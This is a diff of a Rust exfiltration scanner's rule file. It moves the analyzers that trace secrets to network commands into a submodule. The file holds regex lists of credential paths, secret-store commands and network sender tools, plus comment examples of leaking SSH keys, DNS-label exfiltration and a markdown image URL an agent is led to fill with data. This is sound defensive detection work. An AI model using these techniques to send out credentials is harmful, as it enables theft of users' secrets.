@@ -16,17 +16,20 @@
 //! image whose query string the agent is to fill in (`![](https://x/p.gif?u={message})`),
 //! which the reader's client fetches by itself. `High`; `Low` when the
 //! line talks about it as an attack.
+//!
+//! # Layout
+//!
+//! This file holds the line rules and the patterns of secrets they share;
+//! `sender` the analyzers that follow a secret to a command that sends
+//! it (and to a name looked up); tests are in `tests.rs`.
 
 use std::sync::LazyLock;
 
-use super::engine::{Analyzer, Body, LineRef, finding};
-use regex::bytes::Regex;
-
-use super::rule::{CONTEXT, Hit, Lazy, Rule, compile, contains_ci, slice_lossy};
-use super::{Category, Finding, Severity};
+use super::rule::{CONTEXT, Hit, Lazy, Rule, compile, slice_lossy};
+use super::{Category, Severity};
 
 /// Paths whose content is a credential.
-pub(super) const SECRET_PATHS: &str = r#"\.ssh/(?:id_[a-z0-9_]+|identity)(?:\.pub)?\b|\.ssh/?(?:\*|\s|$|["'`)])|\bid_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?\b(?:\.pub)?|\.aws/credentials\b|\.config/gcloud/(?:application_default_credentials\.json|credentials\.db|access_tokens\.db|legacy_credentials)|\.azure/(?:accesstokens\.json|msal_token_cache)|\.git-credentials\b|\.netrc\b|\.gnupg\b|\.password-store\b|/etc/g?shadow\b|\.kube/config\b|\.docker/config\.json|\.npmrc\b|\.pypirc\b|\bgh/hosts\.yml|\blogin\.keychain|\bkeychains/|\b(?:google-chrome|chromium|brave-browser|chrome|firefox|microsoft\s+edge)/[^\n]*(?:cookies|login\s+data|logins\.json|key4\.db|web\s+data)\b|/proc/(?:self|\d+)/environ\b|serviceaccount/token\b|\bwallet\.dat\b"#;
+pub(super) const SECRET_PATHS: &str = r#"\.ssh/(?:(?:id_[a-z0-9_]+|identity)(?:\.pub)?\b|id_\*(?:\.pub)?)|\.ssh/?(?:\*|\s|$|["'`)])|\bid_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?\b(?:\.pub)?|\.aws/credentials\b|\.config/gcloud/(?:application_default_credentials\.json|credentials\.db|access_tokens\.db|legacy_credentials)|\.azure/(?:accesstokens\.json|msal_token_cache)|\.git-credentials\b|\.netrc\b|\.gnupg\b|\.password-store\b|/etc/g?shadow\b|\.kube/config\b|\.docker/config\.json|\.npmrc\b|\.pypirc\b|\bgh/hosts\.yml|\blogin\.keychain|\bkeychains/|\b(?:google-chrome|chromium|brave-browser|chrome|firefox|microsoft\s+edge)/[^\n]*(?:cookies|login\s+data|logins\.json|key4\.db|web\s+data)\b|/proc/(?:self|\d+)/environ\b|serviceaccount/token\b|\bwallet\.dat\b"#;
 
 /// Paths that often hold secrets or reveal accounts, but are also routine.
 const LESSER_PATHS: &str = r#"(?:^|[\s"'=@/<(:`])\.env(?:\.(?:local|prod|production|staging|dev|development))?(?:$|[\s"'`),;:])|/etc/passwd\b|\.(?:bash|zsh|python|psql|mysql)_history\b|\.aws/config\b"#;
@@ -283,396 +286,21 @@ fn dns_lookup(h: &Hit<'_>) -> Option<Severity> {
     Some(if ANY_SECRET.is_match(line) || ENV_DUMP.is_match(line) { Severity::Critical } else { h.base })
 }
 
-const SENDER_TRIGGERS: &[&str] = &[
-    "curl",
-    "wget",
-    "nc ",
-    "ncat",
-    "netcat",
-    "socat",
-    "scp",
-    "rsync",
-    "sftp",
-    "ftp",
-    "tftp",
-    "telnet",
-    "xh ",
-    "iwr",
-    "irm",
-    "invoke-webrequest",
-    "invoke-restmethod",
-    "sendmail",
-    "mutt",
-    "requests.post",
-    "requests.put",
-    "requests.patch",
-    "requests.get",
-    "urllib",
-    "urlopen",
-    "*tpx.",
-    "fetch(",
-    "fetch (",
-    "axios.",
-    "net.webclient",
-    ".upload*",
-    "/dev/tcp/",
-];
-
-/// The analyzers of this family.
-pub(super) fn analyzers() -> Vec<Analyzer> {
-    vec![
-        Analyzer { triggers: SENDER_TRIGGERS, run: secret_to_network },
-        Analyzer {
-            triggers: &["host ", "dig ", "nslookup", "drill ", "ping ", "getent", "resolve-dnsname"],
-            run: dns_label,
-        },
-        Analyzer {
-            triggers: &["process.env", "os.environ", "tojson(secrets", "tojson( secrets"],
-            run: environment_near_network,
-        },
-    ]
-}
-
-/// Network calls in code, for [`environment_near_network`]. `fetch(` stands
-/// outside the group: a `\b` after its `(` would miss `fetch("…")`.
-static NETWORK_CODE: Lazy = LazyLock::new(|| {
-    compile(
-        r"\b(?:https?\.(?:request|get|post)|axios|requests\.(?:post|put|patch|get)|urllib|urlopen|httpx|net\.webclient|invoke-(?:webrequest|restmethod)|curl|wget|xmlhttprequest|sendbeacon|websocket|smtplib|sendmail)\b|\bfetch\s*\(|\bsocket\.(?:connect|send)",
-    )
-});
-
-/// How many lines around a dump of the environment are searched for the
-/// network call that ships it.
-const ENVIRONMENT_WINDOW_LINES: usize = 15;
-
-/// Code that serialises the whole environment (`JSON.stringify(process.env)`)
-/// next to code that talks to the network: the request and the payload are
-/// often a few lines apart, so a single line never shows both.
-fn environment_near_network(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) {
-    for &l in lines {
-        let line = body.line(l);
-        let Some(m) = ENV_DUMP.find(line.as_bytes()) else {
-            continue;
-        };
-        let first = body.line_before(l, ENVIRONMENT_WINDOW_LINES);
-        let near = body
-            .lines_from(first)
-            .take(2 * ENVIRONMENT_WINDOW_LINES + 1)
-            .any(|(_, other)| NETWORK_CODE.is_match(other.as_bytes()));
-        if near {
-            out.push(finding(
-                "exfil.env-dump",
-                Category::Exfiltration,
-                Severity::Critical,
-                l,
-                line,
-                m.start(),
-            ));
-        }
-    }
-}
-
 const ENV_DUMP_PATTERN: &str = r#"\btojson\(\s*secrets\s*\)|(?:^|[|;&(`]|\$\()\s*(?:env|printenv|export\s+-p|declare\s+-x)\s*(?:$|[|)`;&>])|\bos\.environ\b(?:\.copy\(\))?\s*[,)}\]]|\bdict\(\s*os\.environ\s*\)|\*\*os\.environ\b|json\.dumps\(\s*(?:dict\(\s*)?os\.environ|json\.stringify\(\s*process\.env\s*\)|\bprocess\.env\s*[,)}\]]|\b(?:get-childitem|gci|dir|ls)\s+env:"#;
 /// The whole environment, rather than one variable of it.
 static ENV_DUMP: Lazy = LazyLock::new(|| compile(ENV_DUMP_PATTERN));
 
 const SECRET_VAR_PATTERN: &str = r#"\$\{\{\s*secrets\.[a-z0-9_]+\s*\}\}|\$\{?[a-z0-9_]*(?:token|secret|passw|pwd|api_?key|access_?key|private_?key|credential|session|cookie)[a-z0-9_]*\}?|\$\{?aws_[a-z_]+\}?|\bos\.environ\[\s*["'][a-z0-9_]*(?:token|secret|passw|key)[a-z0-9_]*["']|\bprocess\.env\.[a-z0-9_]*(?:token|secret|passw|key)"#;
-/// A variable whose name says it holds a secret.
-static SECRET_VAR: Lazy = LazyLock::new(|| compile(SECRET_VAR_PATTERN));
 
-/// Arguments that authenticate the request rather than carry its payload;
-/// the common `-H`/`-u` forms are removed by [`strip_auth_args`] first.
-static AUTH_ARGS: Lazy = LazyLock::new(|| {
-    compile(
-        r#"(?:-H|--header|-u|--user|--oauth2-bearer)\s*=?\s*(?:"[^"]*"|'[^']*'|\S+)|\s-i\s+\S+|--netrc-file[= ]\S+|--(?:cert|key|cacert)[= ]\S+|\s-e\s+(?:"ssh[^"]*"|'ssh[^']*')|\b(?:headers|auth)\s*=\s*(?:\{[^}]*\}|\([^)]*\))"#,
-    )
-});
+mod sender;
 
-/// Anything a sender could leak: one test before the detailed ones.
-static PAYLOAD: Lazy = LazyLock::new(|| {
-    compile(&format!("{SECRET_PATHS}|{LESSER_PATHS}|{ENV_DUMP_PATTERN}|{SECRET_VAR_PATTERN}"))
-});
-/// A secret or the environment, read on an earlier line.
-static SOURCE: Lazy =
-    LazyLock::new(|| compile(&format!("{SECRET_PATHS}|{LESSER_PATHS}|{ENV_DUMP_PATTERN}|{STORE_READ}")));
-
-/// Commands that print a secret from a store rather than a file: a
-/// keychain, a CLI's login token, a password manager, the clipboard. Put
-/// in a variable that a later command sends, they are the payload.
-const STORE_READ: &str = r"\bfind-(?:generic|internet)-password\b[^\n|;&]*\s-w|\bdump-keychain\b|\bsecret-tool\s+lookup\b|\bgh\s+auth\s+token\b|\bgcloud\s+auth\s+(?:application-default\s+)?print-access-token\b|\baz\s+account\s+get-access-token\b|\baws\s+configure\s+get\s+\S*secret|\bop\s+read\b|\bvault\s+kv\s+get\b|\bpbpaste\b|\bwl-paste\b|\bxclip\b[^\n|;]*\s-o\b";
-
-/// What a command refers to that an earlier line may have filled: `$NAME`,
-/// `${NAME}`, and files after `@`, `<`, `=`, `-T`.
-static REFERENCE: Lazy = LazyLock::new(|| {
-    compile(
-        r#"\$\{?([a-z_][a-z0-9_]*)\}?|(?:@|<\s*|--post-file=|--upload-file\s+|-T\s+)["']?([^\s"'|;&)]{4,})"#,
-    )
-});
-
-const MAX_JOINED: usize = 12;
-/// How far back a variable or file may have been filled with a secret.
-const TAINT_LOOKBACK_LINES: usize = 100;
-
-/// The command starting on `l`, with `\`-continued lines joined, and the
-/// lines it covers.
-fn logical(body: &Body<'_>, l: LineRef) -> (String, Vec<(LineRef, usize)>) {
-    let mut text = String::new();
-    let mut parts = Vec::new();
-    for (r, line) in body.lines_from(l).take(MAX_JOINED) {
-        parts.push((r, text.len()));
-        match line.strip_suffix('\\') {
-            Some(head) => {
-                text.push_str(head);
-                text.push(' ');
-            }
-            None => {
-                text.push_str(line);
-                break;
-            }
-        }
-    }
-    (text, parts)
+/// The analyzers of this family.
+pub(super) fn analyzers() -> Vec<super::engine::Analyzer> {
+    sender::analyzers()
 }
 
-/// The line of `parts` holding byte `at` of the joined command.
-fn line_at(parts: &[(LineRef, usize)], at: usize) -> LineRef {
-    parts.iter().rev().find(|(_, off)| *off <= at).map_or(parts[0].0, |(r, _)| *r)
-}
-
-/// Without these a command cannot carry a payload to the network: a file
-/// argument, a variable, a redirection, an environment object, or a pipe
-/// into the command (`cat x | curl …`; a pipe after it only carries the
-/// response away). Header and credential arguments are not looked at:
-/// `payload` is the command after [`strip_auth_args`].
-fn may_carry_payload(payload: &[u8]) -> bool {
-    // A `|` before the first sender word. No sender word holds a `|`, so
-    // that is: the text before the first `|` holds no sender word.
-    let piped_in = memchr::memchr(b'|', payload).is_some_and(|pipe| {
-        let head = &payload[..pipe];
-        !SENDER_WORDS.iter().any(|w| contains_ci(head, w.as_bytes()))
-    });
-    piped_in
-        || memchr::memchr3(b'@', b'<', b'$', payload).is_some()
-        || memchr::memchr(b'`', payload).is_some()
-        // Grouped by a part they share, so that a command holding none of
-        // them (the common case) costs four searches rather than six.
-        || contains_ci(payload, b"env")
-            && (contains_ci(payload, b"environ") || contains_ci(payload, b"process.env"))
-        || contains_ci(payload, b"-file")
-            && (contains_ci(payload, b"--post-file") || contains_ci(payload, b"upload-file"))
-        || contains_ci(payload, b"-t ")
-        || payload.contains(&b'(') && contains_ci(payload, b"open(")
-}
-
-/// The words of senders that a pipe may feed.
-const SENDER_WORDS: &[&str] =
-    &["curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "sendmail", "mutt", "http"];
-
-/// `cmd` without `-H`/`--header`/`-u`/`--user` arguments, by hand: the
-/// common case (a token in an `Authorization` header) needs no regex.
-/// A short flag's value may be attached (`-uadmin:$TOKEN`), as curl's
-/// getopt-style parser reads it; a long flag's follows a blank or `=`.
-fn strip_auth_args(cmd: &[u8]) -> std::borrow::Cow<'_, [u8]> {
-    const FLAGS: &[&[u8]] = &[b"-H", b"--header", b"-u", b"--user", b"--oauth2-bearer"];
-    let flag_at = |i: usize| {
-        let after_blank = i == 0 || cmd[i - 1].is_ascii_whitespace();
-        FLAGS
-            .iter()
-            .find(|f| {
-                let short = f.len() == 2;
-                after_blank
-                    && cmd[i..].starts_with(f)
-                    && cmd.get(i + f.len()).is_some_and(|b| short || b.is_ascii_whitespace() || *b == b'=')
-            })
-            .map(|f| f.len())
-    };
-    let mut out: Option<Vec<u8>> = None;
-    // `cmd[..done]` is copied to `out` or skipped.
-    let mut done = 0;
-    for i in memchr::memchr_iter(b'-', cmd) {
-        if i < done {
-            continue;
-        }
-        let Some(len) = flag_at(i) else {
-            continue;
-        };
-        let kept = out.get_or_insert_with(|| Vec::with_capacity(cmd.len()));
-        kept.extend_from_slice(&cmd[done..i]);
-        let mut j = i + len;
-        while cmd.get(j).is_some_and(|b| b.is_ascii_whitespace() || *b == b'=') {
-            j += 1;
-        }
-        // Skip one shell word, quoted or bare.
-        match cmd.get(j) {
-            Some(&q @ (b'"' | b'\'')) => {
-                j += 1;
-                // To the closing quote, stepping over escaped characters.
-                while let Some(k) = cmd.get(j..).and_then(|rest| memchr::memchr2(q, b'\\', rest)) {
-                    j += k;
-                    if cmd[j] == q {
-                        break;
-                    }
-                    j += 2;
-                }
-                j = if j < cmd.len() && cmd[j] == q { j + 1 } else { cmd.len() + 1 };
-            }
-            _ => {
-                while cmd.get(j).is_some_and(|b| !b.is_ascii_whitespace()) {
-                    j += 1;
-                }
-            }
-        }
-        kept.push(b' ');
-        done = j.min(cmd.len());
-    }
-    match out {
-        None => std::borrow::Cow::Borrowed(cmd),
-        Some(mut kept) => {
-            kept.extend_from_slice(&cmd[done..]);
-            std::borrow::Cow::Owned(kept)
-        }
-    }
-}
-
-/// A variable or file of `payload` that an earlier line filled from a
-/// secret (`K=$(cat ~/.ssh/id_rsa)`, `tar czf /tmp/k.tgz ~/.ssh`).
-fn tainted_reference(body: &Body<'_>, before: LineRef, payload: &[u8]) -> Option<String> {
-    filled_from(body, before, payload, &SOURCE)
-}
-
-/// What `payload` refers to that an earlier line filled from `source`.
-fn filled_from(body: &Body<'_>, before: LineRef, payload: &[u8], source: &Regex) -> Option<String> {
-    let refs: Vec<(bool, String)> = REFERENCE
-        .captures_iter(payload)
-        .filter_map(|c| {
-            c.get(1)
-                .map(|v| (true, String::from_utf8_lossy(v.as_bytes()).into_owned()))
-                .or_else(|| c.get(2).map(|p| (false, String::from_utf8_lossy(p.as_bytes()).into_owned())))
-        })
-        .collect();
-    if refs.is_empty() {
-        return None;
-    }
-    // What to look for on earlier lines: `NAME=` for a variable, the path
-    // for a file; a substring search first, the tokenising check after.
-    let needles: Vec<(bool, &str, String)> = refs
-        .iter()
-        .map(|(is_var, name)| {
-            (*is_var, name.as_str(), if *is_var { format!("{name}=") } else { name.clone() })
-        })
-        .collect();
-    let first = body.line_before(before, TAINT_LOOKBACK_LINES);
-    for (_, line) in body.lines_from(first).take(before.index - first.index) {
-        for (is_var, name, needle) in &needles {
-            if !line.contains(needle.as_str()) {
-                continue;
-            }
-            let found = !*is_var
-                || line
-                    .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '='))
-                    .any(|w| w.strip_prefix(name).is_some_and(|rest| rest.starts_with('=')));
-            if found && source.is_match(line.as_bytes()) {
-                return Some(if *is_var { format!("${name}") } else { name.to_string() });
-            }
-        }
-    }
-    None
-}
-
-fn secret_to_network(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) {
-    let mut last_covered: Option<usize> = None;
-    for &l in lines {
-        if last_covered.is_some_and(|c| l.index <= c) {
-            continue;
-        }
-        let (cmd, parts) = logical(body, l);
-        last_covered = parts.last().map(|(r, _)| r.index);
-        let c = cmd.as_bytes();
-        let mut payload = strip_auth_args(c);
-        if !may_carry_payload(&payload) {
-            continue;
-        }
-        let rare_auth = [&b" -i "[..], b"--netrc", b"--cert", b"--key", b" -e ", b"headers", b"auth"];
-        if payload.contains(&b'-') && rare_auth.iter().any(|m| contains_ci(&payload, m))
-            || rare_auth[5..].iter().any(|m| contains_ci(&payload, m))
-        {
-            payload = std::borrow::Cow::Owned(AUTH_ARGS.replace_all(&payload, &b" "[..]).into_owned());
-        }
-        let p = &*payload;
-        // The excerpt is taken from the line of the command holding the
-        // offending text.
-        let report = |id: &str, severity: Severity, needle: &[u8], out: &mut Vec<Finding>| {
-            let at = find_bytes(c, needle).unwrap_or(0);
-            let r = line_at(&parts, at);
-            let text = body.line(r);
-            let col = find_bytes(text.as_bytes(), needle).unwrap_or(0);
-            // Shown as text under a warning, a sender is explained, not asked.
-            let severity = body.unless_explained(severity, r, col..col + needle.len());
-            out.push(finding(id, Category::Exfiltration, severity, r, text, col));
-        };
-        if PAYLOAD.is_match(p) {
-            if let Some(m) = ANY_SECRET.find(p).filter(|m| !is_public_key(&p[m.start()..])) {
-                let only_passwd = !SECRET.is_match(p) && m.as_bytes().ends_with(b"/etc/passwd");
-                let sev = if only_passwd { Severity::High } else { Severity::Critical };
-                report("exfil.secret-file", sev, m.as_bytes(), out);
-                continue;
-            }
-            if let Some(m) = ENV_DUMP.find(p) {
-                report("exfil.env-dump", Severity::Critical, m.as_bytes().trim_ascii(), out);
-                continue;
-            }
-        }
-        if let Some(t) = tainted_reference(body, l, p) {
-            report("exfil.secret-file", Severity::Critical, t.as_bytes(), out);
-        } else if let Some(m) = SECRET_VAR.find(p) {
-            report("exfil.secret-variable", Severity::High, m.as_bytes(), out);
-        }
-    }
-}
-
-/// A variable as the first label of a name looked up (`host
-/// "$t.x.example"`, `dig "${label:0:60}.x.example"`): a DNS query carries
-/// whatever the variable holds to the name's server, wherever outbound
-/// HTTP is blocked.
-static LABEL_VAR: Lazy = LazyLock::new(|| {
-    compile(
-        r#"\b(?:host|dig|nslookup|drill|ping|getent\s+hosts|resolve-dnsname)\s+(?:-\S+\s+(?:\d+\s+)?)*["']?\$\{?([a-z_][a-z0-9_]*)(?::\d+(?::\d+)?)?\}?\.[a-z0-9-]+\.[a-z]"#,
-    )
-});
-/// What fills a label that carries a secret: a credential file, the
-/// environment, a store, or a variable whose name says it is a secret.
-static LABEL_SOURCE: Lazy = LazyLock::new(|| {
-    compile(&format!("{SECRET_PATHS}|{LESSER_PATHS}|{ENV_DUMP_PATTERN}|{STORE_READ}|{SECRET_VAR_PATTERN}"))
-});
-
-/// `exfil.dns-lookup` for a name whose first label is a variable filled
-/// from a secret a few lines above: `Critical`.
-fn dns_label(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) {
-    for &l in lines {
-        let line = body.line(l);
-        let Some(c) = LABEL_VAR.captures(line.as_bytes()) else { continue };
-        let (Some(all), Some(name)) = (c.get(0), c.get(1)) else { continue };
-        let reference = format!("${}", String::from_utf8_lossy(name.as_bytes()));
-        if filled_from(body, l, reference.as_bytes(), &LABEL_SOURCE).is_none() {
-            continue;
-        }
-        let severity = body.unless_explained(Severity::Critical, l, all.start()..all.end());
-        out.push(finding("exfil.dns-lookup", Category::Exfiltration, severity, l, line, all.start()));
-    }
-}
-
-fn is_public_key(at: &[u8]) -> bool {
-    let end =
-        at.iter().position(|b| !(b.is_ascii_alphanumeric() || b"._-/~".contains(b))).unwrap_or(at.len());
-    at[..end].ends_with(b".pub")
-}
-
-fn find_bytes(hay: &[u8], needle: &[u8]) -> Option<usize> {
-    if needle.is_empty() || needle.len() > hay.len() {
-        return None;
-    }
-    hay.windows(needle.len()).position(|w| w.eq_ignore_ascii_case(needle))
-}
+#[cfg(test)]
+use sender::{ENVIRONMENT_WINDOW_LINES, TAINT_LOOKBACK_LINES, strip_auth_args};
 
 #[cfg(test)]
 mod tests;
